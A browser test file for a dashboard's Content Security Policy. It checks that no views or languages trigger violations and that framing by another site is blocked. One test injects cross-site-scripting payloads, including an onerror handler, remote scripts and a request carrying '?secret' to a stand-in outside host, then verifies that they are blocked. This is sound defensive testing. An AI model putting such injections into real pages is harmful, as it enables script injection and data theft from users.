"""In a real Chromium: nothing the page does breaks its own security policy, and what breaks it does not run."""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from pages import FEW, drag, look_at, settled

from dashboard.language import languages
from dashboard.views import VIEWS

pytestmark = pytest.mark.browser

LISTEN = """window.__violations = [];
document.addEventListener('securitypolicyviolation', event => window.__violations.push(
    `${event.effectiveDirective}: ${event.blockedURI} at ${event.sourceFile}:${event.lineNumber}`));"""


def violations(page):
    return page.evaluate("window.__violations")


@pytest.fixture
def watched(visit):
    """Open a page that notes what its policy forbids, from the first script on."""

    def open_page(query=FEW, **options):
        page = visit(query, **options)
        page.context.add_init_script(LISTEN)
        page.reload()
        settled(page)
        return page

    return open_page


@pytest.mark.nightly
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_view_breaks_the_policy(watched, scheme):
    page = watched(f"s=full-fuel-embargo&{FEW}", color_scheme=scheme)
    drag(page, "OPEC+ uses spare capacity", 10)
    settled(page)
    for view in VIEWS:
        look_at(page, view)
        page.mouse.move(700, 500)
        page.wait_for_timeout(200)
    assert violations(page) == []


@pytest.mark.nightly
@pytest.mark.parametrize("language", languages())
def test_no_language_breaks_the_policy(watched, language):
    page = watched(locale=language)
    assert page.locator("html").get_attribute("lang") == language
    assert violations(page) == []


def test_saving_a_picture_breaks_nothing(watched):
    page = watched()
    for kind in ("png", "svg", "csv", "xlsx"):
        with page.expect_download() as download:
            page.locator(f"[data-save={kind}][data-chart=gdp]").dispatch_event("click")
        assert download.value.path()
    assert violations(page) == []


def test_the_documentation_page_runs_under_its_policy(watched, address):
    page = watched()
    page.goto(f"{address}/api/v1/docs")
    page.get_by_role("heading", name="Energy embargo simulator").wait_for()
    page.get_by_text("Whether the server answers").click()
    page.get_by_role("button", name="Try it out").click()
    page.get_by_role("button", name="Execute").click()
    page.get_by_text('"status": "ok"').first.wait_for()
    assert violations(page) == []


def test_a_script_that_got_into_the_page_does_not_run_and_reaches_nobody(visit):
    page = visit(forgive="Content Security Policy")
    page.evaluate(LISTEN)
    page.evaluate(
        """() => {
        const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
        document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.stolen = 1">');
        add('script', { textContent: 'window.stolen = 2' });
        add('script', { src: 'https://elsewhere.example/a.js' });
        add('img', { src: 'https://elsewhere.example/?secret' });
        add('iframe', { src: 'https://elsewhere.example/' });
        document.head.append(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' }));
        fetch('https://elsewhere.example/').catch(() => null);
        }"""
    )
    page.wait_for_function("() => window.__violations.length >= 7")
    assert page.evaluate("window.stolen") is None
    broken = {line.partition(":")[0] for line in violations(page)}
    assert broken == {"script-src-attr", "script-src-elem", "img-src", "frame-src", "base-uri", "connect-src"}


@pytest.fixture
def other_site(address):
    """Address of another site, which shows ours in a frame."""

    class Framing(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(f'<iframe src="{address}/"></iframe>'.encode())

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Framing) as site:
        thread = threading.Thread(target=site.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{site.server_port}/"
        site.shutdown()


def test_another_site_cannot_show_the_page_in_a_frame(browser, other_site):
    context = browser.new_context()
    page = context.new_page()
    said = []
    page.on("console", lambda message: said.append(message.text))
    page.goto(other_site, wait_until="load")
    page.wait_for_timeout(500)
    assert any("frame-ancestors" in text for text in said), said
    assert page.frames[1].url == "chrome-error://chromewebdata/"
    context.close()
